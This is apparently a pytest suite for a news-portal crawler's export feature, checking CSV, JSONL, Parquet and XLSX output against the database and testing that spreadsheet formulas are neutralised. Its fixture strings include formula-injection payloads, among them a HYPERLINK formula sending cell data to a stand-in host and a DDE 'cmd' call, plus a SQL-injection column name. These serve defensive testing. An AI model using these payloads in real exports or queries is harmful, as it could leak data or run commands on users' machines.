"""Exports say what the database says: re-read by the programs they are for and compared cell by cell."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas
import pyarrow.parquet
import pytest

from portal_crawler.article import Article, Capture, Channel, Image
from portal_crawler.export import FORMATS, ExportError, Selection, export_articles
from portal_crawler.export.columns import columns_of
from portal_crawler.export.xlsx_file import MOST_UNITS, parts_of, write_xlsx
from portal_crawler.store import (
    Found,
    PageCapture,
    StorageError,
    Store,
    Writer,
    open_reader,
    open_store,
    search,
    start_run,
)
from tests.conftest import Finished

JSON_COLUMNS = ("channel_path", "images", "provenance", "warnings")
INTEGERS = ("id", "page_count", "revision", "capture_id")

# What has broken exports of others: each is title, body, and source of an article.
TEXTS = {
    "plain": "河海相连谱华章",
    "two paragraphs": "第一段。\n第二段，“引号”。",
    "quotes and separators": 'He said "好", twice; a,b\tc;"",\'',
    "beyond the basic plane": "𠮷野家在𪚥县开业 👨‍👩‍👧 😀",
    "full-width spaces": "\u3000\u3000张　三\u3000",
    "blanks around": "  前后有空格  ",
    "line ends of all kinds": "一\r\n二\r三\u2028四\u2029五\x85六",
    "controls that XML cannot hold": "响铃\x07退格\x08竖排\x0b换页\x0c删除\x7f",
    "no characters at all": "\ufffe\uffff\ufeff",
    "an escape of Excel's": "_x0041_ 不是 A，_x000D_ 不是换行",
    "markup of Excel's": "<r><t>假</t></r>",
    "markup": "<b>&amp;</b> ]]> <![CDATA[",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"点")',
    "a formula by plus": "+1+1",
    "a formula by minus": "-2+3+cmd|' /C calc'!A0",
    "a formula by at": "@SUM(1,1)",
    "a formula after a tab": "\t=1+1",
    "a formula after a return": "\r=1+1",
    "a full-width formula": "＝1+1",
    "an apostrophe and a formula": "'=1+1",
    "an apostrophe": "'安全",
    "a number": "0012",
    "a large number": "12345678901234567890",
    "a date": "2021-11-19",
    "an address": "http://news.example/",
    "a truth": "TRUE",
    "a missing value": "NULL",
    "another missing value": "NA",
}
LONG = "甘𠮷肃" * 30_000
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "＝")


def put(writer: Writer, item: Article, number: int) -> None:
    capture = Capture(item.url, "2021-11-19T20:10:00+08:00", 200, "text/html", "sha1:AAAA", "p/1.warc.gz", number, 1)
    writer.add_capture(capture)
    writer.add_article(item, [PageCapture(item.url, capture)])


def article(number: int, **values: Any) -> Article:
    plain = Article(
        url=f"http://news.example/{number}.html",
        title=f"标题{number}",
        published_at="2021-11-19T20:09:41+08:00",
        published_precision="second",
        published_raw="2021-11-19 20:09:41",
        source="中国甘肃在线",
        editor="赵小春、李四",
        body="正文。",
        channel_path=("资讯频道", "市州快报", '"平凉"市'),
        images=(Image("http://news.example/1.jpg", "图\n说"), Image("http://news.example/2.jpg", None)),
        extractor="portal-crawler/1",
        provenance={"title": "h1", "正文": "density"},
        warnings=("empty_body",),
    )
    return replace(plain, **values)


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database of hostile texts, absent values, two portals and two channels."""
    path = tmp_path_factory.mktemp("store") / "portal.db"
    store = open_store(path)
    writer = Writer(store, start_run(store, "gscn", []), "gscn", before_commit=lambda: None)
    channel = writer.add_channel(Channel("平凉市", ("资讯频道", "平凉市"), "http://news.example/pl/"))
    writer.discover([Found("http://news.example/0.html")], "article", channel_id=channel, walk=1)
    for number, text in enumerate(TEXTS.values()):
        put(writer, article(number, title=text, body=f"{text}\n{text}", source=text), number)
    put(writer, Article("http://news.example/nothing.html", extractor="portal-crawler/1"), 1000)
    old = {"published_at": "2021-11-18T00:00+08:00", "published_precision": "day", "channel_path": ("要闻",)}
    put(writer, article(1001, title="昨天", **old), 1001)
    put(writer, article(1002, title="多页", page_count=3, images=(), warnings=(), provenance={}), 1002)
    writer.flush()
    other = Writer(store, start_run(store, "other", []), "other", before_commit=lambda: None)
    put(other, article(2000, title="另一个门户", body="安全生产月"), 2000)
    other.flush()
    store.connection.execute("UPDATE articles SET state = 'gone' WHERE url LIKE '%/1001.html'")
    store.close()
    return path


@pytest.fixture
def store(database: Path) -> Iterator[Store]:
    reader = open_reader(database)
    yield reader
    reader.close()


def stored(store: Store, **decode: bool) -> list[dict[str, Any]]:
    """All articles as the database has them."""
    return [dict(row) for row in store.rows("SELECT * FROM articles ORDER BY id")]


def decoded(row: dict[str, Any]) -> dict[str, Any]:
    return row | {name: json.loads(row[name]) for name in JSON_COLUMNS}


def unguarded(text: str) -> str:
    """What docs/export.md says of how to undo the guard."""
    rest = text.lstrip("'")
    return text[1:] if text.startswith("'") and rest.startswith((*FORMULAS, "\n", "＋", "－", "＠")) else text


def csv_rows(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    csv.field_size_limit(10_000_000)
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file, strict=True))


def as_cells(row: dict[str, Any]) -> dict[str, str]:
    return {name: "" if value is None else str(value) for name, value in row.items()}


def test_csv_is_the_database_cell_by_cell(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.csv", raw=True)
    assert csv_rows(tmp_path / "a.csv") == [as_cells(row) for row in stored(store)]


def test_csv_without_raw_is_the_database_once_the_apostrophe_is_taken_away(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.csv")
    rows = csv_rows(tmp_path / "a.csv")
    assert not any(cell.startswith((*FORMULAS, "＋", "－", "＠")) for row in rows for cell in row.values())
    assert [{name: unguarded(cell) for name, cell in row.items()} for row in rows] == [
        as_cells(row) for row in stored(store)
    ]


def test_csv_keeps_null_and_numbers_apart_from_text(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.csv", columns=["id", "title", "page_count", "source"])
    lines = (tmp_path / "a.csv").read_bytes().splitlines()
    assert lines[0] == b"id,title,page_count,source"
    assert lines[1] == '1,"河海相连谱华章",1,"河海相连谱华章"'.encode()
    assert f"{len(TEXTS) + 1},,1,".encode() in lines


def test_csv_for_excel_has_a_mark_and_crlf_and_the_other_has_neither(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.csv", columns=["id", "url"])
    export_articles(store, tmp_path / "e.csv", columns=["id", "url"], excel=True)
    plain, excel = (tmp_path / "a.csv").read_bytes(), (tmp_path / "e.csv").read_bytes()
    assert plain.startswith(b"id,url\n") and b"\r" not in plain
    assert excel == b"\xef\xbb\xbf" + plain.replace(b"\n", b"\r\n")


def test_csv_is_read_by_pandas_and_duckdb(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    export_articles(store, path, raw=True)
    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
    assert frame.to_dict("records") == [as_cells(row) for row in stored(store)]
    read = duckdb.sql(f"SELECT * FROM read_csv('{path}', all_varchar = true)")
    rows = [dict(zip(read.columns, row, strict=True)) for row in read.fetchall()]
    assert [as_cells(row) for row in rows] == [as_cells(row) for row in stored(store)]


def test_jsonl_is_the_database_with_real_lists_and_objects(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    export_articles(store, path)
    rows = [decoded(row) for row in stored(store)]
    assert [json.loads(line) for line in path.read_bytes().split(b"\n")[:-1]] == rows
    assert [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] == rows
    read = duckdb.sql(f"SELECT * FROM read_json('{path}', format = 'newline_delimited') ORDER BY id")
    assert [row[:3] for row in read.fetchall()] == [(row["id"], row["url"], row["portal"]) for row in rows]


def test_parquet_is_the_database_with_types(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "a.parquet"
    export_articles(store, path)
    rows = [decoded(row) for row in stored(store)]
    table = pyarrow.parquet.read_table(path)
    assert str(table.schema.field("id").type) == "int64"
    assert str(table.schema.field("channel_path").type) == "list<element: string>"
    got = [row | {"provenance": dict(row["provenance"])} for row in table.to_pylist()]
    assert got == rows


def test_parquet_is_read_by_pandas_and_duckdb(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "a.parquet"
    export_articles(store, path)
    rows = [decoded(row) for row in stored(store)]
    frame = pandas.read_parquet(path)
    for name in frame.columns:
        got = [None if not isinstance(cell, (list, tuple)) and cell is pandas.NA else cell for cell in frame[name]]
        if name not in JSON_COLUMNS:
            assert [None if cell != cell else cell for cell in got] == [row[name] for row in rows], name
    assert [list(cell) for cell in frame["channel_path"]] == [row["channel_path"] for row in rows]
    read = duckdb.read_parquet(str(path))
    got = [dict(zip(read.columns, row, strict=True)) for row in read.fetchall()]
    assert got == rows
    titles = duckdb.sql(f"SELECT provenance['title'] FROM '{path}' WHERE len(images) = 2 LIMIT 1").fetchall()
    assert titles == [("h1",)]


def from_excel(cell: Any) -> Any:
    """A cell as Excel shows it; openpyxl leaves its escapes in."""
    return openpyxl.utils.escape.unescape(cell) if isinstance(cell, str) else cell


def xlsx_rows(path: Path) -> list[dict[str, Any]]:
    """All sheets' rows; every cell of text is one and no formula."""
    rows: list[dict[str, Any]] = []
    for sheet in openpyxl.load_workbook(path, read_only=True).worksheets:
        lines = sheet.iter_rows()
        header = [cell.value for cell in next(lines)]
        for line in lines:
            assert all(cell.data_type in ("s", "inlineStr", "n") for cell in line)
            cells = [from_excel(cell.value) for cell in line]
            rows.append(dict(zip(header, cells + [None] * (len(header) - len(cells)), strict=True)))
    return rows


def test_xlsx_is_the_database_cell_by_cell(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.xlsx", raw=True)
    assert xlsx_rows(tmp_path / "a.xlsx") == stored(store)


def test_xlsx_without_raw_is_the_database_once_the_apostrophe_is_taken_away(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.xlsx")
    rows = xlsx_rows(tmp_path / "a.xlsx")
    texts = [cell for row in rows for cell in row.values() if isinstance(cell, str)]
    assert not any(cell.startswith(FORMULAS) for cell in texts)
    assert [
        {name: unguarded(cell) if isinstance(cell, str) else cell for name, cell in row.items()} for row in rows
    ] == stored(store)


def test_xlsx_is_read_by_pandas(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.xlsx", raw=True)
    frame = pandas.read_excel(tmp_path / "a.xlsx", keep_default_na=False, dtype=object)
    got = [{name: from_excel(cell) for name, cell in row.items()} for row in frame.to_dict("records")]
    assert got == [{name: "" if cell is None else cell for name, cell in row.items()} for row in stored(store)]
    assert frame["id"].tolist() == [row["id"] for row in stored(store)]


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_libreoffice_reads_what_the_database_says(store: Store, tmp_path: Path, suffix: str) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("no soffice here: apt-get install libreoffice-calc-nogui")
    path, out = tmp_path / f"a{suffix}", tmp_path / "read"
    columns = ["id", "url", "title", "source", "body", "published_at", "page_count", "images"]
    export_articles(store, path, columns=columns, excel=suffix == ".csv", raw=suffix == ".xlsx")
    # Tokens: comma, quote, UTF-8, from line 1; columns as text; for the way out: quote all text, as stored, no formulas.
    as_text = "/".join(f"{number}/2" for number in range(1, len(columns) + 1))
    command = [soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"]
    if suffix == ".csv":
        command.append(f"--infilter=Text - txt - csv (StarCalc):44,34,76,1,{as_text},0,true,false")
    command += ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false", "--outdir", str(out), path]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    rows = csv_rows(out / "a.csv", encoding="utf-8-sig")

    def shown(cell: str) -> str:
        # A sheet of LibreOffice knows one line end, and none of these controls.
        cell = re.sub("[\r\n\u2028\u2029\x85]+", "\n", cell)
        return cell.translate(dict.fromkeys([*range(9), *range(11, 32), 0x7F, 0xFEFF, 0xFFFE, 0xFFFF]))

    expected = [{name: shown(cell) for name, cell in as_cells(row).items() if name in columns} for row in stored(store)]
    read = unguarded if suffix == ".csv" else str
    got = [{name: shown(read(cell)) for name, cell in row.items()} for row in rows]
    assert got == [{name: row[name] for name in columns} for row in expected]


def test_nul_is_never_in_a_csv_or_excel_file(tmp_path: Path) -> None:
    store = open_store(tmp_path / "p.db")
    writer = Writer(store, start_run(store, "p", []), "p", before_commit=lambda: None)
    put(writer, article(1, title="前\0后"), 1)
    writer.flush()
    for suffix in FORMATS:
        export_articles(store, tmp_path / f"a{suffix}", columns=["title"])
    store.close()
    assert b"\0" not in (tmp_path / "a.csv").read_bytes()
    assert csv_rows(tmp_path / "a.csv") == xlsx_rows(tmp_path / "a.xlsx") == [{"title": "前\ufffd后"}]
    assert json.loads((tmp_path / "a.jsonl").read_text()) == {"title": "前\0后"}
    assert pyarrow.parquet.read_table(tmp_path / "a.parquet").to_pylist() == [{"title": "前\0后"}]


@pytest.mark.parametrize(
    "text",
    ["", "短", "字" * MOST_UNITS, "字" * (MOST_UNITS + 1), "𠮷" * MOST_UNITS, "字" + "𠮷" * MOST_UNITS, LONG],
    ids=len,
)
def test_text_is_cut_into_cells_that_excel_can_hold(text: str) -> None:
    parts = parts_of(text)
    assert "".join(parts) == text
    assert all(len(part.encode("utf-16-le")) // 2 <= MOST_UNITS for part in parts)
    assert len(parts) <= len(text.encode("utf-16-le")) // (2 * (MOST_UNITS - 1)) + 1


def test_body_longer_than_an_excel_cell_goes_on_in_further_columns(tmp_path: Path) -> None:
    store = open_store(tmp_path / "p.db")
    writer = Writer(store, start_run(store, "p", []), "p", before_commit=lambda: None)
    for number, body in enumerate(["短", LONG, "=" * 40_000]):
        put(writer, article(number, body=body), number)
    writer.flush()
    exported = export_articles(store, tmp_path / "a.xlsx", columns=["id", "body", "title"])
    rows = xlsx_rows(tmp_path / "a.xlsx")
    export_articles(store, tmp_path / "a.csv", columns=["id", "body", "title"])
    short = export_articles(store, tmp_path / "b.xlsx", Selection(query="短"), columns=["id", "body", "title"])
    store.close()
    assert exported.continued == {"body": 4} and short.continued == {}
    assert list(rows[0]) == ["id", "body", "body_2", "body_3", "body_4", "title"]
    joined = ["".join(unguarded(row[name] or "") for name in row if name.startswith("body")) for row in rows]
    assert joined == ["短", LONG, "=" * 40_000]
    assert csv_rows(tmp_path / "a.csv")[1]["body"] == LONG
    assert [column["name"] for column in manifest(tmp_path / "a.xlsx")["columns"]] == list(rows[0])


def test_rows_that_do_not_fit_on_a_sheet_go_on_on_the_next(store: Store, tmp_path: Path) -> None:
    columns = columns_of(store, ["id", "url"])
    rows = [(number, f"http://news.example/{number}") for number in range(7)]
    write_xlsx(tmp_path / "a.xlsx", columns, iter(rows), parts={}, most_rows=4)
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["articles", "articles 2", "articles 3"]
    assert [sheet.max_row for sheet in book.worksheets] == [4, 4, 2]
    assert [tuple(row.values()) for row in xlsx_rows(tmp_path / "a.xlsx")] == rows


@pytest.mark.parametrize("suffix", FORMATS)
def test_nothing_selected_is_a_file_without_rows(store: Store, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"a{suffix}"
    assert export_articles(store, path, Selection(portal="none"), columns=["id", "title"]).rows == 0
    reader = {
        ".csv": csv_rows,
        ".jsonl": lambda p: p.read_text().splitlines(),
        ".parquet": lambda p: pyarrow.parquet.read_table(p).to_pylist(),
        ".xlsx": xlsx_rows,
    }[suffix]
    assert reader(path) == []


@pytest.mark.parametrize(
    ("selection", "condition"),
    [
        (Selection(), "1"),
        (Selection(portal="other"), "portal = 'other'"),
        (Selection(since=date(2021, 11, 19)), "published_at >= '2021-11-19'"),
        (Selection(until=date(2021, 11, 18)), "substr(published_at, 1, 10) <= '2021-11-18'"),
        (Selection(state="gone"), "state = 'gone'"),
        (Selection(channel="要闻"), "title = '昨天'"),
        (Selection(channel="平凉市"), "url LIKE '%/0.html'"),
        (Selection(channel="资讯频道/平凉市"), "url LIKE '%/0.html'"),
        (Selection(channel="没有"), "0"),
        (Selection(query="安全"), "title || body LIKE '%安全%'"),
        (Selection(query="安全", portal="other"), "portal = 'other'"),
    ],
)
def test_selection_is_what_it_says(store: Store, tmp_path: Path, selection: Selection, condition: str) -> None:
    expected = [row[0] for row in store.rows(f"SELECT id FROM articles WHERE {condition} ORDER BY id")]
    exported = export_articles(store, tmp_path / "a.csv", selection, columns=["id"])
    assert [int(row["id"]) for row in csv_rows(tmp_path / "a.csv")] == expected
    assert exported.rows == len(expected)


@pytest.mark.parametrize("query", ["安全", "全", "𠮷野", "HYPERLINK 点", '"a,b"', ",", "没有", "１", "", "安全 生产"])
def test_query_selects_what_search_finds(store: Store, tmp_path: Path, query: str) -> None:
    export_articles(store, tmp_path / "a.csv", Selection(query=query), columns=["url"])
    found = {hit.url for hit in search(store, query, limit=1000)}
    assert {row["url"] for row in csv_rows(tmp_path / "a.csv")} == found


def manifest(path: Path) -> dict[str, Any]:
    return json.loads(path.with_name(path.name + ".manifest.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("suffix", FORMATS)
def test_manifest_says_what_is_in_the_file(store: Store, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"a{suffix}"
    export_articles(store, path, Selection(portal="gscn", since=date(2021, 11, 19)), columns=["id", "images"])
    said = manifest(path)
    assert said["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert (said["file"], said["format"], said["rows"]) == (path.name, suffix[1:], len(TEXTS) + 1)
    assert said["columns"] == [{"name": "id", "type": "integer"}, {"name": "images", "type": "list of images"}]
    assert said["query"] == {"portal": "gscn", "since": "2021-11-19"}
    assert said["database"] == str(store.path.resolve())
    newest = store.rows("SELECT max(name) FROM _sqlite_migrations WHERE migration_set = 'portal_crawler'")[0][0]
    assert said["schema"] == newest and said["made_at"].endswith("+08:00")
    assert sorted(item.name for item in tmp_path.iterdir()) == [path.name, path.name + ".manifest.json"]


def test_columns_are_those_named_in_their_order_and_a_wrong_name_is_explained(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    export_articles(store, path, columns=["title", "id"])
    assert path.read_bytes().startswith(b"title,id\n")
    before = path.read_bytes()
    for names, text in (
        (["id", "tilte"], "no column 'tilte'; did you mean 'title'"),
        (["id", "id"], "'id' is named twice"),
        ([], "no column is named"),
        (["body; DROP TABLE articles"], "no column"),
    ):
        with pytest.raises(ExportError, match=text):
            export_articles(store, path, columns=names)
    assert path.read_bytes() == before
    assert len(list(tmp_path.iterdir())) == 2


def test_export_has_all_columns_of_the_table(store: Store, tmp_path: Path) -> None:
    export_articles(store, tmp_path / "a.csv")
    names = [row["name"] for row in store.rows("PRAGMA table_info(articles)")]
    assert list(csv_rows(tmp_path / "a.csv")[0]) == names
    assert {column.name for column in columns_of(store) if column.is_json} == set(JSON_COLUMNS)


def test_rows_are_of_one_moment_while_a_crawl_writes(tmp_path: Path) -> None:
    writable = open_store(tmp_path / "p.db")
    writer = Writer(writable, start_run(writable, "p", []), "p", before_commit=lambda: None)
    for number in range(500):
        put(writer, article(number), number)
    writer.flush()
    reader = open_reader(tmp_path / "p.db")
    seen: list[tuple[int, int]] = []

    def crawl_on(count: int, total: int) -> None:
        # Within the export: one more article, a changed one, and a later one deleted.
        if count == 100:
            put(writer, article(999), 10_000)
            put(writer, article(400, title="改后"), 10_001)
            writer.flush()
            assert writable.rows("SELECT count(*) FROM articles")[0][0] == 501
        seen.append((count, total))

    export_articles(reader, tmp_path / "a.csv", columns=["title"], progress=crawl_on)
    assert seen == [(count, 500) for count in range(1, 501)]
    assert [row["title"] for row in csv_rows(tmp_path / "a.csv")] == [f"标题{number}" for number in range(500)]
    export_articles(reader, tmp_path / "b.csv", columns=["title"])
    assert len(csv_rows(tmp_path / "b.csv")) == 501
    reader.close()
    writable.close()


def test_failed_export_leaves_what_was_there(tmp_path: Path) -> None:
    store = open_store(tmp_path / "p.db")
    writer = Writer(store, start_run(store, "p", []), "p", before_commit=lambda: None)
    put(writer, article(1), 1)
    writer.flush()
    folder = tmp_path / "out"
    folder.mkdir()
    for suffix in FORMATS:
        export_articles(store, folder / f"a{suffix}")
    before = {file.name: file.read_bytes() for file in folder.iterdir()}
    store.connection.execute("UPDATE articles SET images = '[broken'")
    for suffix in (".jsonl", ".parquet"):
        with pytest.raises(ExportError, match="images is no JSON"):
            export_articles(store, folder / f"a{suffix}")

    def fail(_count: int, _total: int) -> None:
        raise KeyboardInterrupt

    for suffix in FORMATS:
        with pytest.raises(KeyboardInterrupt):
            export_articles(store, folder / f"a{suffix}", columns=["id"], progress=fail)
    assert {file.name: file.read_bytes() for file in folder.iterdir()} == before
    assert not store.connection.in_transaction
    store.close()


def test_place_that_cannot_be_written_is_a_storage_error(store: Store, tmp_path: Path) -> None:
    with pytest.raises(StorageError, match="No such file"):
        export_articles(store, tmp_path / "absent" / "a.csv")


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database that takes some seconds to export."""
    path = tmp_path_factory.mktemp("large") / "portal.db"
    fill(path, 20_000)
    return path


def fill(path: Path, count: int) -> None:
    """Articles by plain SQL, which takes a hundredth of the writer's time."""
    store = open_store(path)
    run = start_run(store, "p", [])
    with store.transaction() as connection:
        connection.execute("INSERT INTO segments VALUES ('f', 'p', ?)", (run,))
        connection.execute("INSERT INTO captures VALUES (1, 'p', 'u', 't', 200, NULL, 'd', 'f', 0, 1, ?)", (run,))
        connection.executemany(
            """INSERT INTO articles (url, portal, title, body, images, first_seen_at, last_seen_at, capture_id,
               extractor) VALUES (?, 'p', '标题', ?, ?, 't', 't', 1, 'x')""",
            (
                (f"http://news.example/{n}", f"第{n}条。" + "靖远县引进企业。" * 90, '[{"url": "u", "caption": null}]')
                for n in range(count)
            ),
        )
    store.close()


@pytest.mark.slow
@pytest.mark.parametrize("suffix", FORMATS)
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM, signal.SIGINT], ids=lambda number: number.name)
def test_killed_export_leaves_the_old_file_or_the_new_one(
    large: Path, tmp_path: Path, cli_environment: dict[str, str], suffix: str, number: signal.Signals
) -> None:
    path = tmp_path / f"a{suffix}"
    path.write_bytes(b"old")
    command = [sys.executable, "-m", "portal_crawler", "export", str(path), "--db", str(large)]
    process = subprocess.Popen(command, env=cli_environment, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not any(file.stat().st_size > 100_000 for file in tmp_path.glob(".a*.part/*")):
        assert process.poll() is None and time.monotonic() < deadline
        time.sleep(0.005)
    process.send_signal(number)
    code = process.wait(timeout=60)
    assert code == {signal.SIGKILL: -9, signal.SIGTERM: 143, signal.SIGINT: 130}[number]
    assert path.read_bytes() == b"old"
    left = [file.name for file in tmp_path.iterdir() if file != path]
    assert left == [] or (number == signal.SIGKILL and all(name.startswith(".a") for name in left))


_MEASURE = """
import resource, sys
from pathlib import Path
from portal_crawler.export import export_articles
from portal_crawler.store import open_reader
peaks = []
def progress(count, total):
    if count == 10_000:
        peaks.append(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
export_articles(open_reader(Path(sys.argv[1])), Path(sys.argv[2]), progress=progress)
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peaks[0]) / 1024)
"""


@pytest.mark.slow
@pytest.mark.parametrize("suffix", FORMATS)
def test_memory_does_not_grow_with_the_rows(
    large: Path, tmp_path: Path, cli_environment: dict[str, str], suffix: str
) -> None:
    command = [sys.executable, "-c", _MEASURE, str(large), str(tmp_path / f"a{suffix}")]
    done = subprocess.run(command, env=cli_environment, capture_output=True, text=True, check=True, timeout=120)
    # From 10,000 articles to 20,000; these 10,000 have 22 MB of text.
    assert float(done.stdout) < 12


Cli = Callable[..., Finished]


def test_command_writes_a_file_and_says_so(cli: Cli, database: Path, tmp_path: Path) -> None:
    done = cli("export", "a.csv", "--db", database, "--portal", "other", "--columns", "title, id", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout.startswith(b"a.csv: 1 articles, ")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()[0] == "title,id"
    assert manifest(tmp_path / "a.csv")["query"] == {"portal": "other"}


@pytest.mark.parametrize(
    ("arguments", "code", "text"),
    [
        (["a.txt"], 2, "no known suffix, there are .csv, .jsonl, .parquet, .xlsx"),
        (["a"], 2, "no known suffix"),
        (["absent/a.csv"], 2, "absent: no such folder"),
        (["a.csv", "--columns", "titel"], 2, "did you mean 'title'?"),
        (["a.xlsx", "--excel"], 2, "--excel is about .csv files only"),
        (["a.csv", "--since", "2021-12-01", "--until", "2021-11-01"], 2, "is before --since"),
        (["a.csv", "--state", "dead"], 2, "'dead' is not one of"),
        (["a.csv", "--db", "absent.db"], 7, "absent.db: no such database"),
    ],
)
def test_command_explains_what_it_cannot_do(
    cli: Cli, database: Path, tmp_path: Path, arguments: list[str], code: int, text: str
) -> None:
    done = cli("export", "--db", database, *arguments, cwd=tmp_path)
    assert (done.returncode, text in done.stderr.decode()) == (code, True), done.stderr.decode()
    assert list(tmp_path.iterdir()) == []


def test_parquet_without_pyarrow_says_how_to_get_it(
    database: Path, tmp_path: Path, cli_environment: dict[str, str]
) -> None:
    hide = "import sys; sys.modules['pyarrow'] = None; from portal_crawler.cli import main; main()"
    command = [sys.executable, "-c", hide, "export", str(tmp_path / "a.parquet"), "--db", str(database)]
    done = subprocess.run(command, env=cli_environment, capture_output=True, text=True)
    assert done.returncode == 2
    assert "pip install 'portal-crawler[parquet]'" in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_python_of_the_document_runs(database: Path, store: Store, tmp_path: Path) -> None:
    document = (Path(__file__).parents[1] / "docs" / "export.md").read_text(encoding="utf-8")
    for suffix in FORMATS:
        export_articles(store, tmp_path / f"articles{suffix}")
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "portal.db").symlink_to(database)
    code = "\n".join(re.findall(r"```python\n(.*?)```", document, re.DOTALL))
    code += '\nassert unguarded("\'=1") == \'=1\' and unguarded("\'\'=1") == "\'=1" and unguarded("\'a") == "\'a"\n'
    environment = os.environ | {"PYTHONPATH": str(Path(__file__).parents[1])}
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, env=environment, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"{len(TEXTS) + 2} articles.parquet.manifest.json\n"
